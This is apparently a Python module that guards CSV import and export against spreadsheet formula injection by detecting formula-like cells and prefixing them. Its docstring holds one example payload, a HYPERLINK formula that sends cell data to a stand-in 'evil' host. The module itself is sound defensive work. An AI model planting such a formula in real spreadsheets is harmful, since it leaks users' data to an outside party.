"""Spreadsheet safety for CSV cells: the one rule for formula injection, used by export and import.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a
tab or carriage return) as a formula: ``=HYPERLINK("http://evil/?"&A1, "Click")`` leaks data.

Decision: a cell that is just a number — ``-5``, ``+33612345678``, ``-3.5``, ``1e6`` — is not
formula-like. It cannot run anything, refusing it on import would refuse every international
phone number, and prefixing it on export would corrupt negative numbers. Leading spaces are looked
through (``"  =1+1"`` is formula-like) because some programs trim them.
"""

from __future__ import annotations

import re

FORMULA_STARTS = frozenset("=+-@\t\r")
# Characters a cell may start with that need a closer look: the triggers, plus spaces before them.
_SUSPECT_STARTS = FORMULA_STARTS | {" ", "\n"}
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")


def formula_like(value: object) -> bool:
    """Whether a spreadsheet program could read the cell as a formula (see the module's decision on numbers)."""
    if not isinstance(value, str) or not value or value[0] not in _SUSPECT_STARTS:
        return False
    stripped = value.lstrip(" \n")
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return False
    return not PLAIN_NUMBER.match(stripped)


def cell_neutralise(value: object) -> str:
    """The text to write in a CSV cell: a formula-like one is prefixed with ``'`` so it shows as text.

    ``None`` is an empty cell; every export cell goes through here.
    """
    if value is None:
        return ""
    text = value if isinstance(value, str) else str(value)
    if text and text[0] in _SUSPECT_STARTS and formula_like(text):
        return "'" + text
    return text
